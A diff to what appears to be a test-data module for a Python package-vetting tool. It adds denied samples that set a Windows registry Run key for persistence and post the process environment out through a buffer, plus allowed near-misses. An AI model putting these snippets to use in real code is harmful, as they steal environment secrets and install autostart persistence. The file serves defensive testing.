@@ -5,7 +5,8 @@ command or written to a started ``nc``'s stdin, the Windows clipboard read throu
 its source does not show, rot13 undone with ``codecs.encode``, an audit hook that sends what
 it is handed, an installer's index changed through ``~/.pydistutils.cfg``, and the
 environment or a credential file read through ``os.environb``, ``/proc/self/environ``,
-``printenv``, ``Path.home()``, ``ConfigParser.read`` or the ``netrc`` module and sent.
+``printenv``, ``Path.home()``, ``ConfigParser.read``, the ``netrc`` module or a buffer held
+in an attribute, and sent.
 
 Each sample is inert (a command ``id`` or a download from ``attacker.invalid``; vetting
 only reads files) and each was allowed or only held on e5ee481. The near-misses are the
@@ -84,6 +85,11 @@ DENIED: dict[str, str] = {
         f"    '{RUN_KEY}Once', 0, win32con.KEY_ALL_ACCESS)\n"
         "win32api.RegSetValueEx(k, 'upd', 0, win32con.REG_SZ, 'C:\\\\x.exe')\n"
     ),
+    "registry-run-key-spelt-in-parts": (
+        "import winreg\nP = 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\' + 'Run'\n"
+        "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, P, 0, winreg.KEY_SET_VALUE)\n"
+        "winreg.SetValueEx(k, 'upd', 0, winreg.REG_SZ, 'C:\\\\x.exe')\n"
+    ),
     # A function's code rewritten to call names its source does not show.
     "code-names-replaced": (
         "import os\n\n\ndef f():\n    return os.getcwd('id')\n\n\n"
@@ -132,6 +138,11 @@ DENIED: dict[str, str] = {
         + POST.format(data="str({s: dict(c[s]) for s in c.sections()})")
         + "\n"
     ),
+    "environment-dumped-into-an-attribute-buffer": (
+        "import io, json, os, requests\n\n\nclass S:\n    def __init__(self):\n"
+        "        self.buf = io.StringIO()\n        json.dump(dict(os.environ), self.buf)\n"
+        "        " + POST.format(data="self.buf.getvalue()") + "\n\n\nS()\n"
+    ),
     "logins-through-the-netrc-module": (
         "import netrc, requests\n" + POST.format(data="str(netrc.netrc().hosts)") + "\n"
     ),
@@ -159,6 +170,16 @@ ALLOWED: dict[str, str] = {
         "    p.communicate(data)\n"
     ),
     # A program's own settings key, and a paste through the Windows API when asked.
+    "autostart-entries-listed": (
+        "import winreg\n\n\ndef entries():\n"
+        f"    k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, '{RUN_KEY}')\n"
+        "    return winreg.QueryValueEx(k, 'evpkg')\n\n\nENTRY = entries()\n"
+    ),
+    "settings-dumped-into-an-attribute-buffer": (
+        "import io, json\n\n\nclass S:\n    def __init__(self):\n"
+        "        self.buf = io.StringIO()\n        json.dump({'theme': 'dark'}, self.buf)\n\n\n"
+        "DEFAULTS = S()\n"
+    ),
     "own-registry-settings-key": (
         "import winreg\nk = winreg.CreateKey(winreg.HKEY_CURRENT_USER, 'Software\\\\evpkg')\n"
         "winreg.SetValueEx(k, 'theme', 0, winreg.REG_SZ, 'dark')\n"
